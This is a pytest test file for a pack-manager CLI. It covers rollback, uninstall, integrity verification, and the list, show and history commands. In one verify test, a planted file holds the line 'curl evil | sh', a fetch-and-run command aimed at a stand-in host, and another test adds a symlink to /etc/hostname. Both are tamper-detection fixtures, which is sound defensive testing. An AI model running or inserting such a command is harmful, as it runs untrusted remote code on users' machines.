"""uninstall, rollback, verify, list, show and history."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from attune_packs.config import load_settings
from attune_packs.install.pipeline import Installer
from tests.conftest import run_cli, write_pack
from tests.install_helpers import audit_rows, snapshot


def install(home: Path, source: Path) -> None:
    inst = Installer(load_settings(home=home, env={}))
    try:
        inst.install(str(source))
    finally:
        inst.close()


@pytest.fixture
def two_versions(home: Path, tmp_path: Path) -> Path:
    src = write_pack(tmp_path / "src", version="1.0.0", files={"a.txt": "one"})
    install(home, src)
    write_pack(src, version="2.0.0", extra="runtime_deps:\n  - shell\n")
    (src / "a.txt").write_text("two")
    install(home, src)
    return src


# -- rollback ---------------------------------------------------------------------------------


def test_rollback_and_back_again(home: Path, two_versions: Path) -> None:
    r = run_cli("pack", "rollback", "demo", "-o", "json", home=home)
    assert r.exit_code == 0, r.stderr
    assert (r.json["version"], r.json["previous_version"]) == ("1.0.0", "2.0.0")
    assert os.readlink(home / "packs" / "demo") == "demo-1.0.0"
    assert (home / "packs" / "demo" / "a.txt").read_text() == "one"
    row = audit_rows(home)[-1]
    assert (row["action"], row["status"], row["pack_version"], row["previous_version"]) == (
        "rollback",
        "succeeded",
        "1.0.0",
        "2.0.0",
    )
    show = run_cli("pack", "show", "demo", "-o", "json", home=home).json
    assert show["version"] == "1.0.0" and show["dependencies"] == []  # 1.0.0 had none
    assert sorted(show["kept_versions"]) == ["1.0.0", "2.0.0"]
    assert run_cli("pack", "verify", home=home).exit_code == 0
    r = run_cli("pack", "rollback", "demo", home=home)
    assert r.exit_code == 0 and "rolled back from 1.0.0 to 2.0.0" in r.stdout
    assert os.readlink(home / "packs" / "demo") == "demo-2.0.0"


def test_rollback_without_a_kept_version(home: Path, tmp_path: Path) -> None:
    install(home, write_pack(tmp_path / "src"))
    before = snapshot(home)
    r = run_cli("pack", "rollback", "demo", "-o", "json", home=home)
    assert r.exit_code == 1 and r.json["error"]["code"] == "no_previous_version"
    assert snapshot(home) == before
    assert audit_rows(home)[-1]["status"] == "failed"
    r = run_cli("pack", "rollback", "nothere", home=home)
    assert r.exit_code == 1 and "'nothere' is not installed" in r.stderr


def test_rollback_refuses_a_tampered_kept_folder(home: Path, two_versions: Path) -> None:
    (home / "packs" / "demo-1.0.0" / "a.txt").write_text("evil")
    before = snapshot(home)
    r = run_cli("pack", "rollback", "demo", "-o", "json", home=home)
    assert r.exit_code == 1 and r.json["error"]["code"] == "tampered"
    assert snapshot(home) == before


# -- uninstall --------------------------------------------------------------------------------


def test_uninstall_refuses_with_dependents_then_force(home: Path, tmp_path: Path) -> None:
    install(home, write_pack(tmp_path / "core", ref="core"))
    install(home, write_pack(tmp_path / "app", ref="app", extra="dependencies:\n  - core@^1\n"))
    before = snapshot(home)
    r = run_cli("pack", "uninstall", "core", "--yes", "-o", "json", home=home)
    assert r.exit_code == 1 and r.json["error"]["code"] == "has_dependents"
    assert "required by app (core@^1)" in r.stderr
    assert snapshot(home) == before
    r = run_cli("pack", "uninstall", "core", "--yes", "--force", "-o", "json", home=home)
    assert r.exit_code == 0, r.stderr
    assert r.json["broken_dependents"] == ["app"]
    assert not os.path.lexists(home / "packs" / "core")
    assert not (home / "packs" / "core-1.0.0").exists()
    assert not (home / "packs" / ".attune" / "core").exists()
    actions = [(a["pack_ref"], a["action"], a["status"]) for a in audit_rows(home)]
    assert actions == [
        ("core", "install", "succeeded"),
        ("app", "install", "succeeded"),
        ("core", "uninstall", "failed"),
        ("core", "uninstall", "succeeded"),
    ]
    # The audit trail of an uninstalled pack stays.
    r = run_cli("pack", "history", "core", "-o", "json", home=home)
    assert [a["action"] for a in r.json] == ["uninstall", "uninstall", "install"]


def test_uninstall_confirmation(home: Path, two_versions: Path) -> None:
    before = snapshot(home)
    r = run_cli("pack", "uninstall", "demo", home=home)  # stdin is not a terminal
    assert r.exit_code == 2 and "pass --yes" in r.stderr
    assert snapshot(home) == before
    r = run_cli("pack", "uninstall", "demo", "--yes", home=home)
    assert r.exit_code == 0, r.stderr
    assert "demo 2.0.0 uninstalled (removed versions: 1.0.0, 2.0.0)" in r.stdout
    assert sorted(os.listdir(home / "packs")) == [".attune"]
    r = run_cli("pack", "uninstall", "demo", "--yes", "-o", "json", home=home)
    assert r.exit_code == 1 and r.json["error"]["code"] == "not_found"
    # Installing again after an uninstall is a fresh install.
    r = run_cli("pack", "install", str(two_versions), "-o", "json", home=home)
    assert r.json["results"][0]["action"] == "install"
    assert run_cli("pack", "rollback", "demo", home=home).exit_code == 1


def test_uninstall_confirmation_on_a_terminal(home: Path, two_versions: Path) -> None:
    pty = pytest.importorskip("pty")
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("ATTUNE_")}
    env["ATTUNE_HOME"] = str(home)
    primary, secondary = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "attune_packs", "pack", "uninstall", "demo"],
        stdin=secondary,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    os.close(secondary)
    os.write(primary, b"n\n")
    _out, err = proc.communicate(timeout=60)
    os.close(primary)
    assert proc.returncode == 1 and b"cancelled" in err
    assert os.path.islink(home / "packs" / "demo")


# -- verify -----------------------------------------------------------------------------------


def test_verify_names_changed_added_and_missing_files(home: Path, tmp_path: Path) -> None:
    src = write_pack(tmp_path / "src", files={"actions/a.yaml": "name: a\n", "lib/x.py": "x = 1\n"})
    install(home, src)
    install(home, write_pack(tmp_path / "other", ref="other"))
    assert run_cli("pack", "verify", home=home).exit_code == 0
    active = home / "packs" / "demo"
    (active / "lib" / "x.py").write_text("x = 2\n")
    (active / "extra.sh").write_text("curl evil | sh\n")
    (active / "actions" / "a.yaml").unlink()
    r = run_cli("pack", "verify", "-o", "json", home=home)
    assert r.exit_code == 1
    doc = r.json
    assert doc["ok"] is False
    demo, other = doc["packs"]
    assert (demo["changed"], demo["added"], demo["missing"]) == (
        ["lib/x.py"],
        ["extra.sh"],
        ["actions/a.yaml"],
    )
    assert demo["expected"] != demo["actual"] and other["ok"] is True
    r = run_cli("pack", "verify", home=home)
    assert r.exit_code == 1
    assert r.stderr.strip() == (
        "error: demo 1.0.0: changed lib/x.py; added extra.sh; missing actions/a.yaml"
    )
    r = run_cli("pack", "verify", "other", home=home)
    assert r.exit_code == 0 and "ok" in r.stdout
    r = run_cli("pack", "verify", "demo", home=home)
    assert r.exit_code == 1
    for text in ("demo: changed lib/x.py", "demo: added extra.sh", "demo: missing actions/a.yaml"):
        assert text in r.stdout
    r = run_cli("pack", "verify", "ghost", "-o", "yaml", home=home)
    assert r.exit_code == 1 and "'ghost' is not installed" in r.stdout
    # A forced reinstall repairs it.
    r = run_cli("pack", "install", str(src), "--force", home=home)
    assert r.exit_code == 0, r.stderr
    assert run_cli("pack", "verify", home=home).exit_code == 0


def test_verify_reports_a_broken_link_and_symlinks(home: Path, tmp_path: Path) -> None:
    install(home, write_pack(tmp_path / "src"))
    os.symlink("/etc/hostname", home / "packs" / "demo-1.0.0" / "sneaky")
    r = run_cli("pack", "verify", "-o", "json", home=home)
    assert r.exit_code == 1
    (rep,) = r.json["packs"]
    assert rep["added"] == ["sneaky"] and "sneaky is a symlink" in rep["errors"]


# -- list, show, history ------------------------------------------------------------------------


def test_list_show_history_formats(home: Path, two_versions: Path) -> None:
    r = run_cli("pack", "list", "-o", "json", home=home)
    assert r.exit_code == 0
    (doc,) = r.json
    assert (doc["ref"], doc["version"], doc["source_type"]) == ("demo", "2.0.0", "local_directory")
    assert doc["installed_at"].endswith("+00:00")
    r = run_cli("pack", "list", home=home)
    assert r.stdout.splitlines()[0].split() == ["ref", "version", "source", "updated", "checksum"]
    r = run_cli("pack", "list", "-o", "yaml", home=home)
    assert "ref: demo" in r.stdout

    r = run_cli("pack", "show", "demo", home=home)
    assert r.exit_code == 0
    for text in ("version:", "2.0.0", "source url:", str(two_versions), "runtime", "shell"):
        assert text in r.stdout
    r = run_cli("pack", "show", "demo", "-o", "yaml", home=home)
    assert "link_target: demo-2.0.0" in r.stdout
    r = run_cli("pack", "show", "nope", "-o", "json", home=home)
    assert r.exit_code == 1 and r.json == {
        "error": {"code": "not_found", "message": "pack 'nope' is not installed"}
    }

    r = run_cli("pack", "history", "-o", "json", home=home)
    assert [a["action"] for a in r.json] == ["upgrade", "install"]
    first = r.json[1]
    assert first["installed_by"] and first["installation_method"] == "cli"
    assert first["meta"]["files"] == 2
    r = run_cli("pack", "history", "demo", "--limit", "1", "-o", "json", home=home)
    assert len(r.json) == 1 and r.json[0]["pack_version"] == "2.0.0"
    r = run_cli("pack", "history", home=home)
    assert "1.0.0 -> 2.0.0" in r.stdout
    r = run_cli("pack", "history", "--limit", "0", home=home)
    assert r.exit_code == 2
    r = run_cli("pack", "history", "other", home=home)
    assert r.exit_code == 0 and "no history for other" in r.stdout


def test_empty_home(home: Path) -> None:
    r = run_cli("pack", "list", home=home)
    assert r.exit_code == 0 and "no packs installed" in r.stdout
    assert run_cli("pack", "list", "-o", "json", home=home).json == []
    r = run_cli("pack", "verify", "-o", "json", home=home)
    assert r.exit_code == 0 and r.json == {"ok": True, "packs": []}
    assert json.loads(run_cli("pack", "history", "-o", "json", home=home).stdout) == []
